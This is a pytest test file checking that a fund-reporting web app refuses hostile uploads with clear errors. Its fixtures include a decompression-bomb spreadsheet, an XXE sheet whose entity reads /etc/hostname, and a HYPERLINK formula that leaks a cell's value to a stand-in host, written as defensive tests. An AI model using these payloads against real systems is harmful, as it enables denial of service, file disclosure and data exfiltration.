"""Issue 13, items 4 and 9: bounded work per upload, and no 500 (or exit 70) from hostile input.

Before: a 7.3 MB xlsx whose one sheet unzips to 100 MB of XML took 34.5 s and 1.6 GB; 19 MB of
text to the audit API took 40 s and 1.3 GB; a sheet with a DTD was an uncaught ParseError; a
number of 60 digits in the form, the API or a workbook was ``decimal.InvalidOperation``; a
report part id with a superscript digit passed ``isdigit``. Now each is a clear refusal before
the work (the memory itself is measured by ``bench/hostile_uploads.py``).
"""

from __future__ import annotations

import io
import subprocess
import sys
import zipfile
from collections.abc import Iterator
from pathlib import Path

import pytest
from fastapi import FastAPI
from fastapi.testclient import TestClient
from openpyxl import load_workbook
from sqlalchemy.orm import Session

from jixiao.app.entry import entry_form
from jixiao.ingest.workbook import read_workbook_bytes
from jixiao.ingest.workbook.package import MAX_CELLS
from jixiao.store.repository import dump_state
from web_helpers import HAMI, logged_in, make_app, page_csrf

_SHEET_HEAD = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
               b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>')


def with_part(data: bytes, name: str, content: bytes) -> bytes:
    """``data`` (an xlsx) with its part ``name`` replaced by ``content``."""
    source = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for info in source.infolist():
            archive.writestr(info.filename, content if info.filename == name else source.read(info.filename))
    return out.getvalue()


def huge_sheet(megabytes: int) -> bytes:
    row = b'<row r="1">' + b'<c r="A1" t="inlineStr"><is><t>xxxxxxxxxxxxxxxxxxxx</t></is></c>' * 20 + b"</row>"
    return _SHEET_HEAD + row * (megabytes * 1024 * 1024 // len(row)) + b"</sheetData></worksheet>"


def many_cells(count: int) -> bytes:
    row = b'<row r="1">' + b'<c r="A1"><v>1</v></c>' * 100 + b"</row>"
    return _SHEET_HEAD + row * (count // 100 + 1) + b"</sheetData></worksheet>"


#: an external entity: ElementTree leaves it undefined and raised ParseError, which was not caught
DTD_SHEET = (b'<?xml version="1.0"?><!DOCTYPE worksheet [<!ENTITY x SYSTEM "file:///etc/hostname">]>'
             b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
             b'<row r="1"><c r="A1" t="inlineStr"><is><t>&x;</t></is></c></row></sheetData></worksheet>')


@pytest.fixture(scope="module")
def app(tmp_path_factory: pytest.TempPathFactory) -> Iterator[FastAPI]:
    app = make_app(f"sqlite:///{tmp_path_factory.mktemp('uploads') / 'j.db'}")
    yield app
    app.state.engine.dispose()


@pytest.fixture(scope="module")
def workbook(app: FastAPI) -> bytes:
    response = logged_in(app, "hami").get(f"/units/{HAMI}/years/2019/workbook")
    assert response.status_code == 200
    return response.content


def _first_sheet(data: bytes) -> str:
    return next(n for n in zipfile.ZipFile(io.BytesIO(data)).namelist() if n.startswith("xl/worksheets/sheet"))


def _upload(app: FastAPI, data: bytes, api: bool = True) -> object:
    client = logged_in(app, "hami")
    files = {"file": ("填报.xlsx", data, "application/octet-stream")}
    if api:
        return client.post(f"/api/units/{HAMI}/workbook", files=files, headers={"X-CSRF-Token": page_csrf(client)})
    return client.post(f"/units/{HAMI}/upload", files=files,
                       data={"csrf_token": page_csrf(client, f"/units/{HAMI}/upload")})


def _state(app: FastAPI) -> dict[str, object]:
    with Session(app.state.engine) as db:
        return dump_state(db)


def test_a_sheet_of_100_mb_of_xml_is_refused_before_it_is_opened(app: FastAPI, workbook: bytes) -> None:
    bomb = with_part(workbook, _first_sheet(workbook), huge_sheet(100))
    assert len(bomb) < 8 * 1024 * 1024  # it compresses: the upload limit alone does not stop it
    before = _state(app)
    answer = _upload(app, bomb)
    assert answer.status_code == 422  # type: ignore[attr-defined]
    [problem] = answer.json()["problems"]  # type: ignore[attr-defined]
    assert problem["code"] == "JX-WB-011" and "超过上限" in problem["message"]
    assert _state(app) == before


def test_too_many_cells_in_one_sheet_are_counted_and_refused(workbook: bytes) -> None:
    crowded = with_part(workbook, _first_sheet(workbook), many_cells(MAX_CELLS + 1000))
    result = read_workbook_bytes(crowded, "x.xlsx")
    assert result.dataset is None and [p.code for p in result.problems] == ["JX-WB-011"]
    assert "单元格" in result.problems[0].message


def test_a_sheet_with_a_dtd_is_a_clear_refusal_on_the_web_and_the_cli(app: FastAPI, workbook: bytes,
                                                                     tmp_path: Path) -> None:
    poisoned = with_part(workbook, _first_sheet(workbook), DTD_SHEET)
    for api in (True, False):
        answer = _upload(app, poisoned, api)
        assert answer.status_code == 422 and "DTD" in answer.text  # type: ignore[attr-defined]
    file = tmp_path / "dtd.xlsx"
    file.write_bytes(poisoned)
    done = subprocess.run([sys.executable, "-m", "jixiao.cli", "load", str(file)], capture_output=True, text=True,
                          env={"JIXIAO_HOME": str(tmp_path), "PATH": "/usr/bin:/bin"}, timeout=120)
    assert done.returncode == 1 and "DTD" in done.stderr and "Traceback" not in done.stderr


def test_a_broken_xml_part_is_a_problem_not_an_exception(workbook: bytes) -> None:
    broken = with_part(workbook, _first_sheet(workbook), _SHEET_HEAD + b"<row><c r=")
    result = read_workbook_bytes(broken, "x.xlsx")
    assert result.dataset is None and [p.code for p in result.problems] == ["JX-WB-001"]


def test_a_60_digit_number_in_a_workbook_cell_is_a_problem_named_by_cell(app: FastAPI, workbook: bytes) -> None:
    book = load_workbook(io.BytesIO(workbook))
    cell = next(c for ws in book.worksheets for row in ws.iter_rows() for c in row
                if isinstance(c.value, int | float) and not isinstance(c.value, bool) and c.value > 2100)
    cell.value = "9" * 61
    buffer = io.BytesIO()
    book.save(buffer)
    answer = _upload(app, buffer.getvalue())
    assert answer.status_code == 422  # type: ignore[attr-defined]
    messages = [p["message"] for p in answer.json()["problems"]]  # type: ignore[attr-defined]
    assert any("位数过多" in m for m in messages), messages


def test_a_60_digit_number_in_the_form_and_the_api_is_422(app: FastAPI) -> None:
    client = logged_in(app, "hami")
    with Session(app.state.engine) as db:
        form = entry_form(db, HAMI, 2019)
    for field in (f for r in form.records for f in r.fields):
        for value in ("1" * 61, "0." + "1" * 61, "-" + "9" * 61):
            api = client.post(f"/api/units/{HAMI}/years/2019/entry", headers={"X-CSRF-Token": page_csrf(client)},
                              json={"version": form.version, "values": {field.name: value}})
            assert api.status_code == 422, (field.name, value, api.text[:200])
    page = client.post(f"/units/{HAMI}/years/2019/edit", data={
        "csrf_token": page_csrf(client, f"/units/{HAMI}/years/2019/edit"), "version": str(form.version),
        form.records[0].fields[0].name: "1" * 61})
    assert page.status_code == 422 and "位数过多" in page.text


def test_a_report_part_with_a_superscript_digit_is_404(app: FastAPI) -> None:
    client = logged_in(app, "hami")
    for part in ("project-³", "project-¹", "project-٣", "project-1x"):
        assert client.get(f"/units/{HAMI}/years/2019/reports/html/{part}").status_code == 404


def test_19_mb_of_text_to_the_audit_api_is_413_at_once(app: FastAPI) -> None:
    client: TestClient = logged_in(app, "hami")
    text = ("2023年基金收入合计74200万元，其中征缴收入65884万元。\n" * 400_000).encode()[:19 * 1024 * 1024]
    answer = client.post("/api/audit", files={"file": ("report.txt", text, "text/plain")},
                         headers={"X-CSRF-Token": page_csrf(client)})
    assert answer.status_code == 413 and "审核上限" in answer.json()["detail"]
    page = client.post("/audit", files={"file": ("report.txt", text, "text/plain")},
                       data={"csrf_token": page_csrf(client, "/audit")})
    assert page.status_code == 413 and "审核上限" in page.text


def test_item_3_upload_side_a_formula_in_a_text_cell_never_reaches_the_data(workbook: bytes) -> None:
    """Issue 13, item 3 is the report writer's (values only, on the branch that owns write/); on
    the way in, a formula typed into a text cell is never stored as the formula's text."""
    book = load_workbook(io.BytesIO(workbook))
    cell = next(c for ws in book.worksheets for row in ws.iter_rows() for c in row if c.value == "哈密市医疗保障局")
    cell.value = '=HYPERLINK("http://example.invalid/?leak="&A1,"点我查看")'
    buffer = io.BytesIO()
    book.save(buffer)
    result = read_workbook_bytes(buffer.getvalue(), "填报.xlsx")
    assert result.dataset is None
    assert any(p.code == "JX-WB-006" and "公式" in p.message for p in result.problems)
